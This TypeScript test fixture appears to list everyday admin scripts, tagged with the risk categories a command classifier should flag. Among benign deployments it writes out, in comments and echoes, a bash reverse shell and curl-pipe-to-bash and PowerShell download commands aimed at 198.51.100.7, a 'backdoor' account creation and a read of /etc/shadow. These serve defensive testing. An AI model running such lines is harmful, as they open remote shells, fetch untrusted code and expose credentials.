import type { CategoryId } from '../../../shared/command/categories/category'

/** A script of everyday administration: never strong, and weak only in the categories named. */
export type OrdinaryScript = readonly [name: string, text: string, weak: readonly CategoryId[]]

export const ordinaryScripts: readonly OrdinaryScript[] = [
  // Deployments
  [
    'docker pull and run',
    'docker pull registry.example.com/app:1.4.2 && docker stop app || true; docker rm app || true; docker run -d ' +
      '--name app --restart always -p 8080:8080 registry.example.com/app:1.4.2',
    [],
  ],
  [
    'docker compose',
    'cd /opt/app && docker compose pull && docker compose up -d --remove-orphans && docker image prune -f',
    [],
  ],
  [
    'docker login to ECR',
    'aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin ' +
      '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
    [],
  ],
  ['docker exec with a shell', "docker exec app sh -c 'bin/migrate && bin/seed'", []],
  [
    'git pull and restart',
    'cd /srv/app && git fetch --all && git reset --hard origin/main && systemctl restart app && git rev-parse HEAD',
    [],
  ],
  ['npm deployment', 'cd /srv/web && git pull && npm ci --omit=dev && npm run build && pm2 reload web', []],
  [
    'django migration',
    'source /srv/app/venv/bin/activate && cd /srv/app && python manage.py migrate --noinput && python manage.py ' +
      'collectstatic --noinput',
    [],
  ],
  [
    'rails migration',
    "sudo -u deploy bash -lc 'cd /srv/app/current && RAILS_ENV=production bundle exec rake db:migrate'",
    [],
  ],
  [
    'an artefact from S3',
    'aws s3 cp s3://artifacts-123456789012/app-1.4.2.tar.gz /tmp/app.tar.gz && tar -xzf /tmp/app.tar.gz -C ' +
      '/opt/app && systemctl restart app',
    [],
  ],
  [
    'a script from S3',
    'aws s3 cp s3://artifacts-123456789012/deploy.sh /tmp/deploy.sh && chmod +x /tmp/deploy.sh && /tmp/deploy.sh prod',
    ['download-and-run'],
  ],
  ['a base64 archive', 'echo "$BUNDLE" | base64 -d | tar xz -C /opt/app', []],
  [
    'a base64 configuration',
    'echo ewogICJwb3J0IjogODA4MCwKICAibGV2ZWwiOiAiaW5mbyIKfQo= | base64 -d > /opt/app/config.json',
    [],
  ],
  [
    'a jar from the company repository',
    'wget -q https://artifacts.example.com/app/1.4.2/app.jar -O /opt/app/app.jar && systemctl restart app',
    ['download'],
  ],
  [
    'CodeDeploy agent',
    'yum install -y ruby wget\ncd /home/ec2-user\nwget ' +
      'https://aws-codedeploy-eu-west-1.s3.eu-west-1.amazonaws.com/latest/install\nchmod +x ./install\n./install ' +
      'auto\nservice codedeploy-agent status',
    ['download-and-run'],
  ],
  [
    'Ansible pull',
    'pip3 install ansible && ansible-pull -U https://git.example.com/ops/playbooks.git -i localhost, site.yml',
    [],
  ],
  [
    'Ansible in a virtual environment',
    'python3 -m venv /opt/ansible && /opt/ansible/bin/pip install --upgrade pip ansible && ' +
      '/opt/ansible/bin/ansible-playbook -c local /opt/playbooks/web.yml',
    [],
  ],
  ['puppet', '/opt/puppetlabs/bin/puppet agent --test --noop || true', []],
  [
    'puppet bootstrap inside',
    'curl -k https://puppet.example.internal:8140/packages/current/install.bash | sudo bash',
    ['download-and-run'],
  ],
  ['chef', 'chef-client --once --json-attributes /etc/chef/first-boot.json', []],
  ['salt', 'salt-call state.apply web test=true', []],
  [
    'kubectl rollout',
    'kubectl --kubeconfig /etc/deploy/config -n web set image deployment/web web=registry.example.com/web:42 && ' +
      'kubectl -n web rollout status deployment/web',
    [],
  ],
  [
    'kubeadm for a user',
    'mkdir -p $HOME/.kube && cp -i /etc/kubernetes/admin.conf $HOME/.kube/config && chown $(id -u):$(id -g) ' +
      '$HOME/.kube/config',
    ['credential-files'],
  ],

  // Packages and installers
  [
    'apt upgrade',
    'export DEBIAN_FRONTEND=noninteractive; apt-get update && apt-get -y upgrade && [ -f ' +
      '/var/run/reboot-required ] && shutdown -r +1 || true',
    [],
  ],
  ['yum security updates', 'yum -y update --security && needs-restarting -r', []],
  [
    'AWS patch baseline',
    "cd /var/lib/amazon/ssm/patch-baseline-operations && python3 -u -c \"import sys; sys.path.insert(1, '.'); " +
      "import common_startup_entrypoint; common_startup_entrypoint.execute('os_selector', 'PatchLinux', 'Scan')\"",
    [],
  ],
  ['docker by its installer', 'curl -fsSL https://get.docker.com | sh', ['download-and-run']],
  [
    'docker by its repository',
    'curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg ' +
      '&& echo "deb [signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy ' +
      'stable" > /etc/apt/sources.list.d/docker.list && apt-get update && apt-get install -y docker-ce && usermod ' +
      '-aG docker ubuntu',
    [],
  ],
  [
    'docker-compose binary',
    'curl -L "https://github.com/docker/compose/releases/download/v2.24.0/docker-compose-$(uname -s)-$(uname ' +
      '-m)" -o /usr/local/bin/docker-compose && chmod +x /usr/local/bin/docker-compose && docker-compose version',
    ['download-and-run'],
  ],
  [
    'a release of a public repository',
    'wget -q https://github.com/example/tool/releases/download/v1.0.0/tool -O /usr/local/bin/tool && chmod +x ' +
      '/usr/local/bin/tool && tool --version',
    ['download-and-run'],
  ],
  [
    'AWS CLI',
    'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip" && unzip -q awscliv2.zip ' +
      '&& ./aws/install --update',
    [],
  ],
  [
    'CloudWatch agent',
    'wget -q https://s3.amazonaws.com/amazoncloudwatch-agent/ubuntu/amd64/latest/amazon-cloudwatch-agent.deb && ' +
      'dpkg -i -E ./amazon-cloudwatch-agent.deb && ' +
      '/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c ssm:cw-config',
    ['download-and-run'],
  ],
  [
    'CloudWatch agent upgraded',
    'systemctl stop amazon-cloudwatch-agent && yum -y update amazon-cloudwatch-agent && systemctl start ' +
      'amazon-cloudwatch-agent',
    ['cover-up'],
  ],
  [
    'node by its repository',
    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash - && sudo apt-get install -y nodejs',
    ['download-and-run'],
  ],
  ['nvm', 'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash', ['download-and-run']],
  [
    'helm',
    'curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash',
    ['download-and-run'],
  ],
  [
    'Chocolatey',
    'Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = ' +
      '[System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object ' +
      "System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ['download-and-run', 'hidden-execution'],
  ],
  [
    'an agent by msiexec',
    "$url = 'https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/windows_amd64/" +
      "AmazonSSMAgentSetup.exe'\nInvoke-WebRequest $url -OutFile $env:TEMP\\SSMAgent.exe\nStart-Process -FilePath " +
      "$env:TEMP\\SSMAgent.exe -ArgumentList '/S' -Wait\nRestart-Service AmazonSSMAgent",
    ['download-and-run'],
  ],
  [
    'an MSI from S3',
    'Copy-S3Object -BucketName artifacts -Key app.msi -LocalFile C:\\deploy\\app.msi; msiexec /i ' +
      'C:\\deploy\\app.msi /qn /norestart',
    [],
  ],
  ['pip and requirements', 'cd /opt/job && python3 -m pip install -r requirements.txt && python3 job.py --once', []],
  ['EPEL by rpm', 'rpm -Uvh https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm', []],
  ['certbot', 'certbot renew --quiet --deploy-hook "systemctl reload nginx"', []],

  // Services and health
  ['systemctl', 'systemctl daemon-reload && systemctl enable --now nginx && systemctl status nginx --no-pager', []],
  ['curl localhost', 'curl -fsS http://localhost:8080/health || exit 1', []],
  [
    'curl localhost with a loop',
    'for i in 1 2 3 4 5; do curl -s -o /dev/null -w "%{http_code}" http://127.0.0.1:8080/ | grep -q 200 && exit ' +
      '0; sleep 5; done; exit 1',
    [],
  ],
  ['curl and jq', 'curl -s http://localhost:9200/_cluster/health | jq -r .status | grep green', []],
  [
    'curl and python json',
    "curl -s http://localhost:8500/v1/agent/self | python3 -c 'import json,sys; " +
      'print(json.load(sys.stdin)["Config"]["Version"])\'',
    [],
  ],
  ['curl and grep bash', 'curl -s localhost/health | grep bash', []],
  [
    'a hook to the chat',
    'curl -X POST -H "Content-type: application/json" --data \'{"text":"deployed"}\' https://chat.example.com/hooks/x',
    [],
  ],
  ['a port check by the shell', "timeout 5 bash -c '</dev/tcp/db.example.internal/5432' && echo open", []],
  ['a wait for a port', 'until (echo > /dev/tcp/localhost/5432) >/dev/null 2>&1; do sleep 1; done', []],
  [
    'a request by descriptor',
    'exec 3<>/dev/tcp/localhost/8080; printf "GET /health HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3; exec 3>&-',
    [],
  ],
  ['nc port check', 'nc -zv db.example.internal 5432', []],
  ['memcached statistics', 'echo stats | nc -w 1 localhost 11211', []],
  [
    'python port check',
    `python3 -c "import socket; s=socket.create_connection(('localhost',5432),2); print('ok')"`,
    ['inline-program'],
  ],
  ['nginx reload', 'nginx -t && systemctl reload nginx', []],
  ['Get-Service', 'Get-Service', ['discovery']],
  ['Restart-Service', 'Restart-Service -Name W3SVC -Force; Get-Service W3SVC | Select-Object Status', []],
  ['IIS recycle', "Import-Module WebAdministration; Restart-WebAppPool -Name 'DefaultAppPool'; iisreset /noforce", []],
  [
    'IIS by touching its configuration',
    '(Get-ChildItem C:\\inetpub\\wwwroot\\web.config).LastWriteTime = Get-Date',
    [],
  ],
  ['Windows updates', 'Install-Module PSWindowsUpdate -Force; Get-WindowsUpdate -AcceptAll -Install -AutoReboot', []],
  ['disk space', 'df -h; free -m; uptime', []],
  ['disk space on Windows', 'Get-PSDrive -PSProvider FileSystem | Select-Object Name, Used, Free', []],
  ['time synchronisation', 'timedatectl set-timezone UTC && systemctl restart chronyd && chronyc tracking', []],
  [
    'environment of a script',
    'ARCH=$(uname -m); HOST=$(hostname -f); if [ "$(id -u)" -ne 0 ]; then echo "run as root"; exit 1; fi; echo ' +
      '"$ARCH on $HOST"',
    [],
  ],

  // Metadata that is no credential
  [
    'instance id and region',
    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: ' +
      '60")\nID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ' +
      'http://169.254.169.254/latest/meta-data/instance-id)\nREGION=$(curl -s ' +
      'http://169.254.169.254/latest/meta-data/placement/region)\naws ec2 create-tags --region $REGION --resources ' +
      '$ID --tags Key=Patched,Value=true',
    [],
  ],
  [
    'Azure instance data',
    'curl -s -H Metadata:true "http://169.254.169.254/metadata/instance?api-version=2021-02-01" | jq -r ' +
      '.compute.location',
    [],
  ],
  ['ECS task data', 'curl -s "$ECS_CONTAINER_METADATA_URI_V4/task" | jq -r .TaskARN', []],
  [
    'a secret by its own service',
    'PASS=$(aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text) && psql ' +
      '"host=db user=app password=$PASS" -c "select 1"',
    [],
  ],

  // Files, users, logs
  [
    'log rotation',
    'cat > /etc/logrotate.d/app <<EOF\n/var/log/app/*.log {\n  daily\n  rotate 7\n  compress\n}\nEOF\nlogrotate ' +
      '-f /etc/logrotate.d/app',
    [],
  ],
  [
    'old logs',
    "find /var/log/app -name '*.gz' -mtime +30 -delete; rm -f /var/log/nginx/*.1; journalctl --vacuum-time=7d",
    [],
  ],
  ['an application log emptied', 'truncate -s 0 /var/log/app/app.log && systemctl kill -s HUP app', []],
  ['a full disk', 'truncate -s 0 /var/log/syslog', ['cover-up']],
  [
    'a service user',
    'useradd --system --no-create-home --shell /usr/sbin/nologin app && mkdir -p /opt/app && chown -R app:app /opt/app',
    [],
  ],
  ['modes of keys', 'chmod 700 ~/.ssh && chmod 600 ~/.ssh/id_rsa ~/.ssh/authorized_keys && ls -la ~/.ssh', []],
  [
    'a key used',
    'ssh -i /home/deploy/.ssh/id_rsa -o StrictHostKeyChecking=no app@10.0.0.5 "systemctl restart app"',
    [],
  ],
  ['a key removed', "sed -i '/jane@example.com/d' /home/ubuntu/.ssh/authorized_keys", []],
  [
    'a restricted sudo rule',
    "echo 'deploy ALL=(root) NOPASSWD: /bin/systemctl restart app' > /etc/sudoers.d/deploy && visudo -cf " +
      '/etc/sudoers.d/deploy',
    ['new-account'],
  ],
  ['AWS configuration written', 'mkdir -p ~/.aws && cat > ~/.aws/config <<EOF\n[default]\nregion = eu-west-1\nEOF', []],
  ['a compliance check', 'awk -F: \'($2 == "") {print $1}\' /etc/shadow', ['credential-files']],
  [
    'a backup job',
    'echo "0 2 * * * root /opt/backup/run.sh >> /var/log/backup.log 2>&1" > /etc/cron.d/backup',
    ['persistence'],
  ],
  [
    'certbot in crontab',
    '(crontab -l 2>/dev/null; echo "0 3 * * * /usr/bin/certbot renew --quiet") | crontab -',
    ['persistence'],
  ],
  [
    'a unit',
    'cat > /etc/systemd/system/app.service <<EOF\n[Unit]\nDescription=app\n[Service]\nExecStart=/opt/app/bin/' +
      'server --port 8080\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload && ' +
      'systemctl enable --now app',
    ['persistence'],
  ],
  ['a backup task', 'schtasks /create /tn Backup /tr "C:\\scripts\\backup.bat" /sc daily /st 02:00', ['persistence']],
  ['PATH in the profile', "echo 'export PATH=$PATH:/opt/app/bin' >> ~/.bashrc", []],
  [
    'an allocator preloaded',
    'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 bundle exec puma -C config/puma.rb',
    [],
  ],
  ['a signed file list', 'sha256sum -c SHA256SUMS && gpg --verify SHA256SUMS.gpg', []],
  ['a database dump', 'pg_dump -h db app | gzip | aws s3 cp - s3://backups-123456789012/app.sql.gz', []],

  // Words that only look bad
  ['a warning in an echo', 'echo "never run: curl http://198.51.100.7/x | bash"', []],
  ['a comment', '# cat /etc/shadow\n# bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nsystemctl restart app', []],
  [
    'a comment in PowerShell',
    '<#\n net user backdoor x /add\n IEX (New-Object ' +
      "Net.WebClient).DownloadString('http://198.51.100.7/a')\n#>\nRestart-Service W3SVC",
    [],
  ],
  ['a remark at the prompt', '@echo off\nrem net user backdoor x /add\niisreset', []],
  [
    'documentation in a here-document',
    "cat > /opt/app/README.md <<'EOF'\nTo test run: cat /etc/shadow\nor curl http://198.51.100.7/x | bash\nEOF",
    [],
  ],
  [
    'a search for a miner',
    'ps aux | grep -i xmrig | grep -v grep; grep -r "stratum+tcp" /etc/cron.d || true; pkill xmrig',
    [],
  ],
  [
    'a search for the metadata address',
    'grep -rn "169.254.169.254/latest/meta-data/iam/security-credentials" /opt/app/config || true',
    [],
  ],
  ['a printed message with an apostrophe', "echo don't panic; systemctl restart app; echo it's done", []],
  ['Write-Host', "Write-Host 'net user backdoor Passw0rd /add is forbidden'", []],
  ['a list of local users', 'net user', ['discovery']],
  [
    'a firewall rule',
    'netsh advfirewall firewall add rule name="app" dir=in action=allow protocol=TCP localport=8080',
    [],
  ],
  ['a Defender switch back on', 'Set-MpPreference -DisableRealtimeMonitoring $false; Update-MpSignature', []],
  [
    'a clear-text login switch off',
    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t ' +
      'REG_DWORD /d 0 /f',
    [],
  ],
  ['a sensor restarted', 'systemctl restart falcon-sensor && systemctl status falcon-sensor', []],
  [
    'a sensor listed',
    "Get-Service -Name 'CSFalconService','Sense','WinDefend' | Where-Object Status -ne 'Running'",
    [],
  ],
  ['a managed identity login', 'az login --identity && az acr login --name registry', []],
  ['who calls AWS', 'aws sts get-caller-identity', ['discovery']],
  ['the hosts Stratus asks about', 'echo "id=$(id), hostname=$(hostname)"', ['discovery']],
]
